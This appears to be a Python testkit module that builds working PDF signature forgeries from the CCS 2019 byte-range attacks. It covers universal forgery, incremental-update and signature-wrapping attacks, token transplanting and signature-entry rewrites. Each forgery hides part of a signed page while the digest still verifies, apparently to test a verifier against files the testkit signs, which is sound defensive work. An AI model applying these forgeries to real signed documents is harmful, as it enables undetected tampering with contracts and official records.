# mypy: disable-error-code="no-untyped-call"
"""Builders for the byte-range attacks of "1 Trillion Dollar Refund" (Mladenov, Mainka, Meyer zu
Selhausen, Grothe, Schwenk, CCS 2019) against files the testkit signs.

Each builder keeps the signed bytes unchanged (the digest still matches) and makes the lengths
add up the way pyHanko 0.38 checks entire-file coverage (`len1 + len2 + 2 * len(/Contents) + 2`
equals the file size) by writing /Contents as a literal string whose parsed length is chosen.
What the forged file shows differs from what was signed: a white box hides the body's second
paragraph (the number stays 15/KH-UBND, so nothing but the signature check can catch it).
"""

from __future__ import annotations

import io
import re
from dataclasses import dataclass

from asn1crypto import cms
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader

WHITE_OUT = b"q 1 1 1 rg 40 600 520 80 re f Q\n"
_ESCAPES = {b"(": b"\\(", b")": b"\\)", b"\\": b"\\\\", b"\r": b"\\r", b"\n": b"\\n"}
_OBJECT_HEADER = re.compile(rb"(?m)^(\d+) 0 obj\b")
_TRAILER = re.compile(rb"trailer\s*<<(.*?)>>\s*startxref\s*(\d+)", re.S)


@dataclass(frozen=True)
class Signed:
    """The last signature of a signed file and what the forgeries need around it."""

    data: bytes
    a: int
    b: int
    c: int
    der: bytes  # the CMS blob without its zero padding
    page_object: int  # object number of page 1
    page_dict: bytes  # page 1's dictionary as written in the file (between "obj" and "endobj")
    size: int  # trailer /Size
    trailer: bytes  # the last trailer's entries without /Prev and /Size
    startxref: int


def read_signed(data: bytes) -> Signed:
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    embedded = reader.embedded_signatures[-1]
    _, a, b, c = (int(v) for v in embedded.byte_range)
    der = cms.ContentInfo.load(embedded.pkcs7_content).dump()
    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0)
    offsets = object_offsets(data)
    start = offsets[page_ref.idnum]
    body = data[start : data.index(b"endobj", start)]
    page_dict = body[body.index(b"obj") + 3 :]
    entries, startxref = _TRAILER.findall(data)[-1]
    size = int(re.search(rb"/Size\s+(\d+)", entries).group(1))  # type: ignore[union-attr]
    entries = re.sub(rb"/(Prev|Size)\s+\d+", b"", entries)
    return Signed(data, a, b, c, der, page_ref.idnum, page_dict, size, entries, int(startxref))


def object_offsets(data: bytes) -> dict[int, int]:
    """Where each object's last definition starts (files without object streams)."""
    return {int(m.group(1)): m.start() for m in _OBJECT_HEADER.finditer(data)}


def _escape(raw: bytes) -> bytes:
    return b"".join(_ESCAPES.get(bytes([x]), bytes([x])) for x in raw)


def parsed_length(literal: bytes) -> int:
    return len(generic._read_string_literal_bytes(io.BytesIO(literal)))


def literal_string(size: int, parsed: int, *, der: bytes, hidden: bytes = b"", hidden_at: int = 0) -> bytes:
    """A literal string of exactly `size` bytes (parentheses included) that a PDF parser reads
    as `parsed` bytes beginning with `der`. `hidden` (balanced parentheses, no backslash) is
    placed raw at byte `hidden_at` of the string, where an xref entry can point at it."""
    head = b"(" + _escape(der)
    if hidden:
        if hidden_at < len(head):
            raise ValueError("the hidden object would overlap the signature")
        head += b"\x00" * (hidden_at - len(head)) + hidden
    head_parsed = parsed_length(head + b")")
    room, wanted = size - len(head) - 1, parsed - head_parsed
    if not 0 <= wanted <= room:
        raise ValueError("the gap cannot hold this forgery")
    # filler: raw NULs (1 byte read as 1), one "\\\\" (2 as 1) for parity, continuations (2 as 0)
    parity = (room - wanted) % 2
    filler = b"\x00" * (wanted - parity) + b"\\\\" * parity + b"\\\n" * ((room - wanted - parity) // 2)
    literal = head + filler + b")"
    assert len(literal) == size
    assert parsed_length(literal) == parsed
    return literal


def _forge_gap(signed: Signed, appended: bytes, *, hidden: bytes = b"", hidden_at: int = 0) -> bytes:
    """The signed file with its gap rewritten as a literal string and `appended` after it, so
    that the parsed /Contents length makes the lengths add up to the new file size."""
    size = len(signed.data) + len(appended)
    gap = signed.b - signed.a
    twice_parsed = size - signed.a - signed.c - 2
    if twice_parsed % 2:
        raise ValueError("odd length: pad the appended update")
    literal = literal_string(gap, twice_parsed // 2, der=signed.der, hidden=hidden, hidden_at=hidden_at)
    return signed.data[: signed.a] + literal + signed.data[signed.b :] + appended


def _pad_even(update: bytes, base: int, signed: Signed) -> bytes:
    return update if (base + len(update) - signed.a - signed.c) % 2 == 0 else update + b"\n"


def universal_forgery_with_appended_update(data: bytes) -> bytes:
    """USF + ISA: /Contents rewritten as a literal string sized so that the lengths add up,
    and an incremental update appended that draws over page 1."""
    signed = read_signed(data)
    page, new = signed.page_object, signed.size
    stream = b"<< /Length %d >>\nstream\n" % len(WHITE_OUT) + WHITE_OUT + b"\nendstream"
    update = _update(signed, len(signed.data), {page: _page_with_overlay(signed, new), new: stream})
    return _forge_gap(signed, _pad_even(update, len(signed.data), signed))


def update_hidden_in_gap(data: bytes) -> bytes:
    """ISA variant: the new content stream sits inside the gap between the signed ranges (raw
    text inside the literal /Contents); a small appended update points page 1 at it."""
    signed = read_signed(data)
    page, new = signed.page_object, signed.size
    hidden = (
        b"%d 0 obj\n<< /Length %d >>\nstream\n" % (new, len(WHITE_OUT)) + WHITE_OUT + b"\nendstream\nendobj\n"
    )
    hidden_at = 1 + len(_escape(signed.der)) + 64  # just after the escaped signature
    update = _update(
        signed, len(signed.data), {page: _page_with_overlay(signed, new)}, extra={new: signed.a + hidden_at}
    )
    return _forge_gap(signed, _pad_even(update, len(signed.data), signed), hidden=hidden, hidden_at=hidden_at)


def signature_wrapping(data: bytes) -> bytes:
    """SWA: the signed second range is moved to the end of the file inside an unused stream; the
    freed space after the literal /Contents holds a new /ByteRange pointing there, and a new
    complete xref makes the new objects (page 1 drawn over) the ones a reader sees."""
    signed = read_signed(data)
    old = signed.data
    sig_end = old.index(b"endobj", signed.b)
    tail_of_sig = old[signed.b : sig_end]  # "\n/ByteRange [...] /Type /Sig ... >>\n"
    old_range = re.search(rb"/ByteRange\s*\[[^\]]*\]", tail_of_sig)
    assert old_range is not None
    page, new, wrapper = signed.page_object, signed.size, signed.size + 1
    offsets = object_offsets(old)
    moved = 0
    for _ in range(4):  # the new /ByteRange's digits and the layout depend on each other
        body, placed = _swa_layout(signed, tail_of_sig, old_range, page, new, wrapper, offsets, moved)
        if placed == moved:
            return body
        moved = placed
    raise AssertionError("layout did not settle")


def _swa_layout(
    signed: Signed,
    tail_of_sig: bytes,
    old_range: re.Match[bytes],
    page: int,
    new: int,
    wrapper: int,
    offsets: dict[int, int],
    moved_start: int,
) -> tuple[bytes, int]:
    old = signed.data
    gap = signed.b - signed.a
    new_range = b"/ByteRange [0 %d %d %d]" % (signed.a, moved_start, signed.c)
    sig_rest = tail_of_sig[: old_range.start()] + new_range + tail_of_sig[old_range.end() :] + b"endobj\n"
    overlay = (
        b"%d 0 obj\n<< /Length %d >>\nstream\n" % (new, len(WHITE_OUT)) + WHITE_OUT + b"\nendstream\nendobj\n"
    )
    page_obj = b"%d 0 obj" % page + _page_with_overlay(signed, new) + b"endobj\n"
    out = bytearray(old[: signed.a])
    literal_at = len(out)
    out += b"\x00" * gap  # the literal, written once the file size is known
    out += sig_rest
    at_overlay = len(out)
    out += overlay
    at_page = len(out)
    out += page_obj
    at_wrapper = len(out)
    head = b"%d 0 obj\n<< /Length %d >>\nstream\n" % (wrapper, signed.c)
    out += head
    moved = len(out)
    out += old[signed.b : signed.b + signed.c] + b"\nendstream\nendobj\n"
    # objects before the gap keep their place, those after it moved with the signed range
    positions = {n: (o if o < signed.a else o - signed.b + moved) for n, o in offsets.items()}
    positions.update({page: at_page, new: at_overlay, wrapper: at_wrapper})
    size = max(positions) + 1
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % positions[number] if number in positions else b"0000000000 00001 f \n"
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, signed.trailer.strip(), xref_at)
    if (len(out) - signed.a - signed.c) % 2:
        out[xref_at - 1 : xref_at - 1] = b"\n"  # before the xref keyword: shifts only startxref
        out[-len(b"%d\n%%%%EOF\n" % xref_at) :] = b"%d\n%%%%EOF\n" % (xref_at + 1)
    twice_parsed = len(out) - signed.a - signed.c - 2
    out[literal_at : literal_at + gap] = literal_string(gap, twice_parsed // 2, der=signed.der)
    return bytes(out), moved


def _page_with_overlay(signed: Signed, overlay: int) -> bytes:
    """Page 1's dictionary text with the overlay stream drawn after its own content."""
    match = re.search(rb"/Contents\s+(\d+ \d+ R|\[[^\]]*\])", signed.page_dict)
    assert match is not None
    current = match.group(1).strip(b"[]").strip()
    contents = b"/Contents [ %s %d 0 R ]" % (current, overlay)
    return signed.page_dict[: match.start()] + contents + signed.page_dict[match.end() :]


def _update(
    signed: Signed, base: int, objects: dict[int, bytes], *, extra: dict[int, int] | None = None
) -> bytes:
    """An incremental update written at file offset `base` defining `objects`; `extra` adds xref
    entries for objects already present elsewhere in the file."""
    out = bytearray(b"\n")
    positions = dict(extra or {})
    for number, body in objects.items():
        positions[number] = base + len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = base + len(out)
    out += b"xref\n"
    for number in sorted(positions):
        out += b"%d 1\n%010d 00000 n \n" % (number, positions[number])
    size = max(signed.size, max(positions) + 1)
    out += b"trailer\n<< /Size %d %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        signed.trailer.strip(),
        signed.startxref,
        xref_at,
    )
    return bytes(out)


def last_gap(data: bytes) -> tuple[int, int]:
    """(a, b) of the last signature or timestamp: the bytes a..b hold its /Contents."""
    embedded = PdfFileReader(io.BytesIO(data), strict=False).embedded_signatures[-1]
    _, a, b, _ = (int(v) for v in embedded.byte_range)
    return a, b


def transplant_last_contents(target: bytes, source: bytes) -> bytes:
    """The last /Contents of `source` (say, a timestamp token) written into the last gap of
    `target`, zero-padded to its size: a token copied from another file or revision."""
    a, b = last_gap(target)
    sa, sb = last_gap(source)
    token = source[sa + 1 : sb - 1].rstrip(b"0")
    token += b"0" * (len(token) % 2)
    if len(token) > b - a - 2:
        raise ValueError("the target's gap is too small for the copied token")
    return target[: a + 1] + token.ljust(b - a - 2, b"0") + target[b - 1 :]


def rewrite_signature_entry(data: bytes, key: bytes, value: bytes | None) -> bytes:
    """The last signature dictionary's `key` entry replaced by `value` (None: removed), padded
    with spaces so that no offset moves (USF: the values a verifier reads, not the bytes it
    hashes)."""
    contents_at = data.rindex(b"/Contents <")
    start = data.rindex(b"<<", 0, contents_at)
    end = data.index(b"endobj", contents_at)
    body = data[start:end]
    if key == b"/Contents":
        match = re.search(rb"/Contents\s*<[0-9A-Fa-f]*>", body)
    else:
        match = re.search(rb"/ByteRange\s*\[[^\]]*\]", body)
    assert match is not None
    old = match.group(0)
    new = b"" if value is None else key + b" " + value
    if len(new) > len(old):
        raise ValueError("the new entry is longer than the old one")
    body = body[: match.start()] + new.ljust(len(old), b" ") + body[match.end() :]
    return data[:start] + body + data[end:]
